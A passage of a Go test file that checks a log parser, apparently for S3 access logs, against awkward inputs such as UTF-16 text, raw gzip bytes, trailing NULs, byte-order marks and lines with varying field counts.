				return
			}
			got := fields(r)
			for name, want := range tt.want {
				if got[name] != want {
					t.Errorf("%s is %s, want %s", name, got[name], want)
				}
			}
		})
	}
}

func TestHardLines(t *testing.T) { checkHard(t, hardLines) }

func TestDecidedLines(t *testing.T) { checkHard(t, decided) }

type hardObject struct {
	name, text string
	want       []string
}

func TestHardReader(t *testing.T) { checkObjects(t, hardObjects) }

var (
	good = from + getOK + `"-" "x"` + tailNow
	bare = from + getOK + `"-" "x" - ` + hostHard
)

func wide(s string) string {
	var b strings.Builder
	for _, u := range utf16.Encode([]rune("\ufeff" + s)) {
		b.WriteByte(byte(u))
		b.WriteByte(byte(u >> 8))
	}
	return b.String()
}

var hardObjects = []hardObject{
	{"UTF-16 of PowerShell", wide(good + "\r\n" + good + "\r\n"),
		[]string{"1: " + errTime.Error(), "2: " + errTime.Error(), "3: " + errTime.Error()}},
	{"gzip that nobody opened", "\x1f\x8b\x08\x00abc\ndef", []string{"1: " + errTime.Error(), "2: " + errTime.Error()}},
	{"NULs behind the last line", good + "\n" + strings.Repeat("\x00", 64), []string{"1: REST.GET.OBJECT", "2: " + ErrIncomplete.Error()}},
	{"fields grow in the middle of an object", bare + " SigV4 T AuthHeader h TLSv1.2\n" + good + "\n" + bare +
		" SigV4 T AuthHeader h TLSv1.2 -\n", []string{"1: REST.GET.OBJECT", "2: REST.GET.OBJECT", "3: REST.GET.OBJECT"}},
	{"lines of 24 and 27 fields, the last without newline", good + "\n" + bare + " SigV4 T AuthHeader h TLSv1.2",
		[]string{"1: REST.GET.OBJECT", "2: " + ErrIncomplete.Error()}},
	{"mark at the begin of an object", "\ufeff" + good + "\n" + good + "\n", []string{"1: REST.GET.OBJECT", "2: REST.GET.OBJECT"}},
	{"last line ends in a region that begins as the one before", good + "\n" + strings.TrimSuffix(good, "central-1") +
		"west-1", []string{"1: REST.GET.OBJECT", "2: REST.GET.OBJECT"}},
}

func checkObjects(t *testing.T, tests []hardObject) {
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := collectAll(t, strings.NewReader(tt.text)); strings.Join(got, "\n") != strings.Join(tt.want, "\n") {
				t.Errorf("got  %q\nwant %q", got, tt.want)
			}
		})
	}
}
